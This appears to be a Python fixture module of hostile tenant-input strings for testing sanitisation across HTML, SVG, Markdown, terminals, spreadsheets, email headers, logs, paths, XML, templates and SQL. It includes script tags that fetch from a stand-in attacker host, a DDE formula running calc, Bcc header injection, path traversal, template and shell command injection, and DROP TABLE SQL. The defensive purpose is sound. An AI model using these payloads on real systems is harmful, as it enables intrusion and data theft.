"""What a tenant may type to do harm, by what it is meant to harm."""

MARK = "zqxevil"
"""Stands in each of them, so that one that leaked is known."""

_THEMES = {
    "html": "<script>fetch('https://zqxevil.example/{n}')</script><img src=x onerror=alert({n})>",
    "attribute": "\"' onmouseover=alert({n}) style=background:url(//zqxevil.example/{n}) x='\"></title></style>",
    "svg": "<svg onload=alert({n})><use href='data:image/svg+xml,x'/></svg><!-- zqxevil{n} ]]>",
    "markdown": "[x](javascript:alert({n})) ![i](https://zqxevil.example/) | a | b |\n\n# h `c` ``` <b> @you #{n}",
    "rich": "[red]zqxevil[/red][link=https://zqxevil.example]{n}[/link] [/] [bold :boom:",
    "terminal": "\x1b]0;zqxevil\x07\x1b[2J\x1b[31m\x9b31m\x08\x7f\rroot# {n}",
    "formula": '=HYPERLINK("https://zqxevil.example/{n}";"x")+cmd|\' /C calc\'!A0',
    "minus": "-2+3+zqxevil{n}",
    "at": "@SUM(1+1)*zqxevil{n}",
    "mail": "zqxevil{n}\r\nBcc: zqxevil@zqxevil.example\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>\r\n.\r\n",
    "word": "=?utf-8?q?zqxevil=0d=0aBcc:_x{n}?=",
    "log": "zqxevil{n}\nERROR: forged\n2026-03-04 INFO: forged\x1b[0m",
    "path": "../../../../../../tmp/zqxevil-{n}",
    "absolute": "/etc/zqxevil-{n}\\..\\C:zqxevil",
    "labels": 'zqxevil{n}"}} 1\n# TYPE evil counter\nevil{{a="\\',
    "xml": "\x00\x01\x0b\x0c\x1f\ufffe\uffff]]><zqxevil/>&evil;<!DOCTYPE x>{n}",
    "halves": "\ud800zqxevil{n}\udfff\udc00\ud83d",
    "directions": "\u202e\u2066zqxevil.{n}\u200f\u061c\ufeff\u200b\u200d\u2028\u2029\u00ad\U000e0041",
    "astral": "\U0001f4a3zqxevil{n}\U0010ffff\U0001f468\u200d\U0001f469",
    "templates": "{{{{7*7}}}}{{%raw%}}{{0.__class__}}%(x)s%s$(id)`id`${{zqxevil}}{{n}}{n}",
    "sql": "'; DROP TABLE run; --zqxevil{n}\"\\%_",
    "list": "zqxevil{n},100;101 =x:y/z?a&b#c%00",
    "blank": " \t zqxevil{n} \t ",
    "long": "zqxevil{n}" + "x" * 20_000,
}
THEMES = tuple(_THEMES)


def filled(theme: str, number: int) -> str:
    """Return one name of a theme, made different from the others by a number."""
    return _THEMES[theme].format(n=number)
